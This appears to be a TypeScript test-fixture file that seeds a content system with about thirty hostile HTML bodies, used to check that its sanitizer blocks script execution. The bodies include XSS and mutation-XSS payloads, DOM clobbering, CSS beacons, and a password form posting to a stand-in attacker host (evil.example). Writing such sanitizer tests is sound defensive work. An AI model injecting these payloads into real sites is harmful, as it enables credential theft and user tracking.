import { generatedBodies } from '../generated-bodies.ts'
import type { SeedAsset } from '../model.ts'

/** A browser test checks `__x` afterwards: if it is set, one of these scripts ran. */
const RUN = 'window.__x=1'

/** Markup that a content editor, or an attacker with an editor's password, might save. */
const hostileBodies: string[] = [
  `<p>Before</p><script>${RUN}</script><p>After</p>`,
  `<script nonce="r4nd0m" src="https://evil.example/x.js"></script><p>A nonce that is not ours</p>`,
  `<img src="x" onerror="${RUN}" alt="A broken picture">`,
  `<img src=x onerror="${RUN}`,
  `<a href="javascript:${RUN}">Click</a> <a href=" jav&#x09;ascript:${RUN}">Click</a> <a href="JaVaScRiPt&colon;${RUN}">Click</a>`,
  `<a href="data:text/html,<script>${RUN}</script>">Data</a> <a href="vbscript:x">Old</a>`,
  `<svg><script>${RUN}</script><a xlink:href="javascript:${RUN}"><text y="20">Svg</text></a></svg>`,
  `<svg><animate xlink:href="#target" attributeName="href" values="javascript:${RUN}"/><a id="target"><text y="20">Animated</text></a></svg>`,
  `<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=x onerror=${RUN}&gt;">`,
  `<form><math><mtext></form><form><mglyph><style></math><img src onerror=${RUN}>`,
  `<noscript><p title="</noscript><img src=x onerror=${RUN}>"></noscript>`,
  `<svg></p><style><a id="</style><img src=1 onerror=${RUN}>">`,
  `<base href="https://evil.example/"><a href="relative">Where does this go?</a>`,
  `<meta http-equiv="refresh" content="0;url=https://evil.example/"><p>Refreshed</p>`,
  `<form action="https://evil.example/steal" method="post"><label>Password <input name="password" type="password"></label><button>Sign in</button></form>`,
  `<style>body{display:none}*{background:url(https://evil.example/?css)}</style><p style="position:fixed;inset:0;background:url(javascript:${RUN})">Style</p>`,
  `<a id="cookie" name="getElementById">Clobber</a><form id="location" name="body"><input name="parentNode"></form><img name="createElement" alt="">`,
  `</div></div></main></body></html><p class="escaped">Outside?</p>`,
  `<p>Placeholder: __CSP_NONCE__ {{nonce}} %NONCE% <script nonce="__CSP_NONCE__">${RUN}</script></p>`,
  `<iframe srcdoc="<script>parent.__x=1</script>"></iframe><object data="javascript:${RUN}"></object><embed src="data:text/html;base64,PHNjcmlwdD4=">`,
  `<details open ontoggle="${RUN}"><summary onclick="${RUN}">Open</summary></details><video autoplay onloadstart="${RUN}"><source onerror="${RUN}"></video>`,
  `<p>Broken <b>markup <i>that <p>never</b> closes<table><tr><p>in a table<td>cell`,
  `<!--><script>${RUN}</script>--><!-- --!><img src=x onerror=${RUN}> --><![CDATA[><script>${RUN}</script>]]>`,
  `<template><script>${RUN}</script></template><template shadowrootmode="open"><style>:host{display:none}</style><slot></slot></template>`,
  `<a href="//evil.example/path" target="_blank" ping="https://evil.example/ping">No protocol</a> <a href="\\\\evil.example">Backslashes</a>`,
  `<textarea></textarea><title></title><xmp><p title="</xmp><img src=x onerror=${RUN}>"></xmp><plaintext><p>Still text?`,
  `<button popovertarget="menu" commandfor="menu" command="show-modal" formaction="javascript:${RUN}">Command</button><dialog open>Dialog</dialog>`,
  `<p>Bidi \u202Eesrever\u202C and zero\u200Bwidth, \u2028line\u2029 separators, null\u0000byte</p>`,
  `<img src="https://evil.example/pixel.gif" srcset="https://evil.example/2x.gif 2x" alt="" loading="eager"><picture><source srcset="https://evil.example/s.avif"></picture>`,
  `<select><option><script>${RUN}</script></option></select><select><template><img src=x onerror=${RUN}></template></select>`,
]

const hostile = (number: number, fields: SeedAsset['fields']): SeedAsset => ({
  id: `hostile-${String(number).padStart(2, '0')}`,
  name: `Hostile body ${number}`,
  folder: 'hostile',
  fields: { c_marketingCopyHeading: `Hostile body ${number}`, ...fields },
})

/**
 * The hostile bodies as assets `hostile-01` …, each in every field that is rendered as markup. A
 * generated body is referenced as `{ generated }`.
 */
export const hostileAssets: SeedAsset[] = [
  ...hostileBodies.map((body, index) =>
    hostile(index + 1, { c_body: body, c_customBody: body, c_marketingCopyLiveText: body }),
  ),
  ...Object.keys(generatedBodies).map((generated, index) =>
    hostile(hostileBodies.length + index + 1, {
      c_body: { generated },
      ...(generated === 'three-thousand-deep' && { c_marketingCopyLiveText: { generated } }),
    }),
  ),
]
